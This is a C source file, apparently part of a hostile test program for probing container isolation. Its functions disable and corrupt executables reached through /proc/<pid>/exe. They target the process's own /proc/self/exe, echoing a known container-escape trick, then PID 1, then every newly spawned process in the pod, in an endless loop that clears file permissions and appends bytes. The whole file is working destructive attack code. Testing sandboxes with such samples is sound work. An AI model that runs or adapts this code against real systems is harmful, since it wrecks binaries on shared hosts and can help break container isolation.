/* spoil_self: makes the program that this process executes useless: it is what a script's
   `#!/proc/self/exe` names, when this program stands in for the dynamic loader.
   spoil_others: the same to the program of each process that appears in the pod. */
#define _GNU_SOURCE
#include "hostile.h"

#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Programs of the app's own are not worth it, and it needs them. */
static int is_own(const struct stat *file) {
  struct stat own;
  static const char *const OWN[] = {"/hostile", "/bin/busybox", "/proc/self/exe"};
  for (unsigned i = 0; i < 2; i++)
    if (stat(OWN[i], &own) == 0 && own.st_dev == file->st_dev && own.st_ino == file->st_ino)
      return 1;
  return 0;
}

/* The mode goes at once; the bytes when nobody executes them any more. */
static int spoil(const char *exe) {
  struct stat file;
  char path[64];
  int fd = open(exe, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return 0;
  if (fstat(fd, &file) != 0 || is_own(&file)) {
    close(fd);
    return 0;
  }
  fchmod(fd, 0);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  for (int k = 0; k < 2000; k++) {
    int writable = open(path, O_WRONLY | O_APPEND);
    if (writable < 0) continue;
    if (write(writable, "spoilt", 6) != 6) perror("write");
    close(writable);
    break;
  }
  close(fd);
  return 1;
}

int spoil_self(int argc, char **argv) {
  (void)argc, (void)argv;
  spoil("/proc/self/exe");
  return 0;
}

int spoil_others(int argc, char **argv) {
  (void)argc, (void)argv;
  char path[64];
  spoil("/proc/1/exe");
  puts("up");
  for (;;) {
    int last = last_pid();
    for (int k = 0; k < 200000; k++)
      for (int i = 1; i <= 2; i++) {
        snprintf(path, sizeof path, "/proc/%d/exe", last + i);
        spoil(path);
      }
  }
}
